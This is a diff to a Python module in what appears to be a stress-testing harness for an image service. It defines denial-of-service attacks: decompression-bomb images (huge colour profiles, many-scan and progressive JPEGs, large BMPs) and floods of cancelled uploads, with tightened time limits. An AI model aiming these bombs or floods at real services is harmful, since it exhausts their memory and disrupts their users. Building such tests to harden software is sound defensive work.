@@ -1,13 +1,14 @@
 """Pictures that are small files and large in memory, or slow."""
 
 import asyncio
+import contextlib
 from functools import cache
 
 import bombs
 from attacks.base import SEGMENT, Attack, Target, together
 from limits import MIB
 from questions import known_words, segment
-from wire import prefixed
+from wire import Closed, prefixed
 
 
 @cache
@@ -15,7 +16,7 @@ def requests(kind: str) -> list[bytes]:
     """Requests with such pictures."""
     makers = {
         "profile": [lambda: bombs.profile(1024 * MIB)],
-        "scans": [bombs.many_scans],
+        "scans": [bombs.many_scans, lambda: bombs.by_pillow("jpeg", progressive=True)],
         "plain": list(bombs.BOMBS.values()),
         "large": [lambda: bombs.by_pillow("bmp", 3200)],
     }[kind]
@@ -51,28 +52,30 @@ class CancelledUploads(Attack):
 
     name = "cancelled uploads"
     memory = True
-    seconds = 5.0
-    slow = 2
+    seconds = 4.0
+    uploads = 20
+    goal = ("bytes", uploads * 30 * MIB)
 
     async def prepare(self, target: Target) -> None:
         for kind in ("scans", "large"):
             await asyncio.to_thread(requests, kind)
 
     async def strike(self, target: Target) -> None:
-        slow, large = requests("scans")[0], prefixed(requests("large")[0])
+        slow, large = requests("scans"), prefixed(requests("large")[0])
         async with await target.connect() as busy, await target.connect() as flood:
-            for _ in range(self.slow):
-                await busy.send(await busy.call(SEGMENT), prefixed(slow), end=True)
-            for _ in range(20):
+            for message in slow:
+                await busy.send(await busy.call(SEGMENT), prefixed(message), end=True)
+            for _ in range(self.uploads):
                 stream = await flood.call(SEGMENT)
-                await flood.send(stream, large, end=True)
-                await asyncio.sleep(0.1)
+                with contextlib.suppress(Closed):  # refused for want of a place
+                    await flood.send(stream, large, end=True)
+                await asyncio.sleep(0.05)
                 await flood.reset(stream)
 
 
 ATTACKS: list[Attack] = [
-    Bombs("bomb: colour profile", "profile", 2.0),
-    Bombs("bombs of all formats", "plain", 4.0),
-    Bombs("bomb: scans", "scans", 3.0),
+    Bombs("bomb: colour profile", "profile", 1.5),
+    Bombs("bombs of all formats", "plain", 2.5),
+    Bombs("bomb: scans", "scans", 2.0),
     CancelledUploads(),
 ]
